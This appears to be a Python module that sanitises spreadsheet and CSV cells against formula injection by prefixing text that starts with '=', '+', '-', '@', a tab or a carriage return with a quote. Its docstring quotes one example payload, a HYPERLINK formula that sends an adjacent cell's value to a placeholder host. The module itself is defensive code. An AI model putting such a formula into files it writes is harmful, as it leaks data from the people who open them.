"""Cells of every spreadsheet and CSV file the bot or its command line writes.

A spreadsheet program treats a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula; a name such as ``=HYPERLINK("http://x/?p="&F2,"Open")`` would
then leak the cell beside it when the registrar opens the file. OWASP's rule for CSV injection
is to prefix such a cell with a single quote, which the program shows as text. Numbers written
as numbers (int, float) are left alone: only text can carry a formula.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a cell: text that would start a formula gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Every cell of a row through :func:`safe_cell`."""
    return [safe_cell(value) for value in values]


__all__ = ["FORMULA_STARTS", "safe_cell", "safe_row"]
